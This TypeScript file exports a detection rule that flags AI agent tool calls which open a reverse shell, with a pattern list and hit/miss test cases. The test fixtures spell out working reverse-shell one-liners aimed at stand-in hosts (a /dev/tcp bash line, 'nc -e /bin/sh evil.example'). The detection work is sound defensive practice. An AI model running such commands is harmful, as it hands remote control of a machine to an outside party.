/** A line from the inside out to somebody who waits for it. */
export const reverseShell = `
title: Reverse shell
name: reverse-shell
id: 2d1f3c39-5a0e-4c1b-9a9d-6f0f5a1b7c10
status: stable
level: critical
description: >-
  The agent ran a command that connects a shell to another machine. There is no ordinary work that
  needs it.
tags: [owasp.asi05, owasp.asi10, atlas.aml.t0108, atlas.aml.t0102]
falsepositives:
  - Security tests that the team itself has ordered
logsource: { product: ai_agent, category: tool_call }
detection:
  runs:
    tool.effect_class: [destructive, outbound, unknown]
  connected:
    gen_ai.tool.call.arguments|contains:
      - '/dev/tcp/'
      - '/dev/udp/'
      - 'bash -i >&'
      - 'sh -i >&'
      - 'nc -e '
      - 'ncat -e '
      - 'ncat --exec'
      - 'nc -c '
      - 'socat exec'
      - 'pty.spawn('
  condition: runs and connected
signalbox:
  group-by: [agent.slug, trace.id]
  tests:
    hits:
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }]
      - [{ event.kind: tool_call, tool.effect_class: unknown, gen_ai.tool.call.arguments: 'nc -e /bin/sh evil.example 4444' }]
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'python3 -c "import pty; pty.spawn(''/bin/sh'')"' }]
    misses:
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'nc -zv db.internal 5432' }]
      - [{ event.kind: tool_call, tool.effect_class: read, gen_ai.tool.call.arguments: 'what does bash -i >& /dev/tcp/x do' }]
      - [{ event.kind: tool_call, tool.effect_class: destructive, gen_ai.tool.call.arguments: 'bash -i' }]
      - [{ event.kind: llm_call, tool.effect_class: unknown, gen_ai.tool.call.arguments: 'nc -e sh' }]
`;
